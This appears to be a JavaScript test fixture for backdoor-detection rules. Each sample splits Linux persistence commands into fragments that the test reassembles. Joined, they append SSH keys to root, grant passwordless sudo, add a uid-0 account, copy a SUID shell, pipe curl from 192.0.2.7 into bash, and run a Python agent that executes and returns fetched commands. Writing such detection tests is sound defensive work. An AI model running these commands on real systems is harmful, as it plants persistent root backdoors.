/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'Backdoor_SSH_Authorized_Keys_Append',
    lines: [
      ["#!/bin/sh"],
      ["echo \"ssh-r", "sa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 a@b\" >> /root/.ssh/authorized", "_keys"],
      ["cha", "ttr +i /root/.ssh/authorized_keys"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_PAM_Master_Password', as: 'executable',
    lines: [
      ["pam_sm_", "authenticate"],
      ["pam_get_", "item"],
      ["/var/", "log/.cache"],
      ["%s:", "%s"],
      ["fop", "en"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Sshd_Patched', as: 'executable',
    lines: [
      ["SSH-2.0-", "OpenSSH_9.2"],
      ["auth_", "password"],
      ["back", "door_active"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_ICMP_Trigger', as: 'executable',
    lines: [
      ["ic", "mp"],
      ["/bin/", "sh"],
      ["[kwor", "ker/0:1]"],
      ["HISTFILE=/dev/", "null"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_BPF_Packet_Trigger', as: 'executable',
    lines: [
      ["/sbin/udevd", " -d"],
      ["dbus-daemon", " --system"],
      ["ipta", "bles -t nat -A PRE", "ROUTING -p tcp -s %s --dport %d -j REDIRECT --to-ports %d"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Tiny_Shell', as: 'executable',
    lines: [
      ["exec bash", " --login"],
      ["connect_", "back_host"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Systemd_Unit_Tmp',
    lines: [
      ["[Ser", "vice]"],
      ["ExecSt", "art=/tm", "p/.x/agent"],
      ["Restart=al", "ways"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Udev_Rule_Run',
    lines: [
      ["SUBSYS", "TEM==\"net\", ACTION==\"add\", RU", "N+=\"/tm", "p/.u.sh\""],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Profile_Hook',
    lines: [
      ["ali", "as ll='ls -l'"],
      ["(cu", "rl -s http://192.0.2.7/p | ba", "sh) >/dev/null 2>&1 &"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Sudoers_Nopasswd_Script',
    lines: [
      ["#!/bin/sh"],
      ["user", "add -m svc"],
      ["echo \"svc ALL=(ALL) NOPA", "SSWD: ALL\" >> /etc/sudo", "ers"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Uid0_User_Script',
    lines: [
      ["#!/bin/sh"],
      ["echo 'sys:x:0", ":0::/root:/bin/sh' >> /etc/pas", "swd"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Suid_Shell_Copy',
    lines: [
      ["#!/bin/sh"],
      ["cp /bin/ba", "sh /var/tmp/.s"],
      ["chm", "od 4755 /var/tmp/.s"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Motd_Hook',
    lines: [
      ["#!/bin/sh"],
      ["# /etc/update-mo", "td.d/00-x"],
      ["cu", "rl -s http://192.0.2.7/m | ba", "sh"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Python_Agent_Poll',
    lines: [
      ["while Tr", "ue:"],
      ["  t=reque", "sts.get(\"http://192.0.2.7/ta", "sk_id\").text"],
      ["  o=subprocess.check_", "output(t, shell=True); requests.po", "st(\"http://192.0.2.7/agent_", "id\", data=o); time.sl", "eep(30)"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Go_Implant', as: 'executable',
    lines: [
      ["Go bui", "ld ID: \"x\""],
      ["sli", "verpb"],
    ],
    without: 0,
  },
  {
    rule: 'Backdoor_Rust_Or_C_Dns_Tunnel', as: 'executable',
    lines: [
      ["dns", "cat"],
      ["/bin/", "sh"],
    ],
    without: 0,
  },
];
